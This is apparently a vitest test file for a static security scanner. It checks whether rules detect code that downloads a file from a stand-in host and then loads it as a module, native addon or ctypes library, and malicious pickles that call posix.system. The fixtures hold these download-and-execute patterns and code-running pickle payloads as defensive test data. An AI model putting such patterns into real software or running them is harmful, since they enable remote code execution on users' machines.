import { describe, expect, it } from 'vitest';
import { staticStage } from '../../src/static/stage.ts';
import { STAGE_CONTEXT, targetOf } from '../static/engine/target.ts';

async function findings(file: string, text: string): Promise<readonly string[]> {
  const outcome = await staticStage.run(targetOf({ [file]: text }), STAGE_CONTEXT);
  return outcome.findings.map(({ ruleId }) => ruleId);
}

/** Inert: the host is reserved (RFC 2606), and nothing of it is run. */
const HOST = 'https://collect.example.invalid';

/** A program that puts what it downloads into a file, and what it does with the file then. */
const javascript = (path: string, use: string): string =>
  `const fs = require('fs');\n(async () => {\n  const answer = await fetch('${HOST}/a');\n` +
  `  fs.writeFileSync('${path}', Buffer.from(await answer.arrayBuffer()));\n  ${use}\n})();\n`;
const python = (use: string): string =>
  `import ctypes, json, urllib.request\nurllib.request.urlretrieve('${HOST}/a', '/tmp/a.so')\n${use}\n`;

describe('a file that is downloaded and loaded', () => {
  it.each([
    ['a module', 'index.js', javascript('/tmp/a.js', "require('/tmp/a.js');")],
    ['a native module', 'index.js', javascript('/tmp/a.node', "require('/tmp/a.node');")],
    [
      'a native module without its name',
      'index.js',
      javascript('/tmp/a', "process.dlopen({ exports: {} }, '/tmp/a');"),
    ],
    ['a library', 'load.py', python("ctypes.CDLL('/tmp/a.so')")],
  ])('is code: %s', async (_, file, text) => {
    expect(await findings(file, text)).toContain('downloaded-code-runs');
  });

  it.each([
    ['a module of its own', 'index.js', javascript('/tmp/rows.json', "require('/opt/notes/rows.js');")],
    ['rows', 'index.js', javascript('/tmp/rows.json', "JSON.parse(fs.readFileSync('/tmp/rows.json'));")],
    ['a library of the system', 'load.py', python("ctypes.CDLL('libm.so.6')")],
  ])('is none: %s', async (_, file, text) => {
    expect(await findings(file, text)).not.toContain('downloaded-code-runs');
  });
});

describe('a pickle that stands in a program', () => {
  it.each([
    String.raw`b"cposix\nsystem\n(S'id'\ntR."`,
    String.raw`b"\x80\x04cposix\nsystem\n\x8c\x02id\x85R."`,
  ])('is emulated: %s', async (pickled) => {
    expect(await findings('load.py', `import pickle\npickle.loads(${pickled})\n`)).toContain(
      'pickle-runs-code',
    );
  });

  it.each([
    String.raw`b"(lp0\nI1\naI2\na."`,
    String.raw`b"ccollections\nOrderedDict\n(tR."`,
    String.raw`"crisp\nnotes\nare good."`,
  ])('is left alone where it calls nothing: %s', async (pickled) => {
    expect(await findings('load.py', `import pickle\npickle.loads(${pickled})\n`)).not.toContain(
      'pickle-runs-code',
    );
  });
});
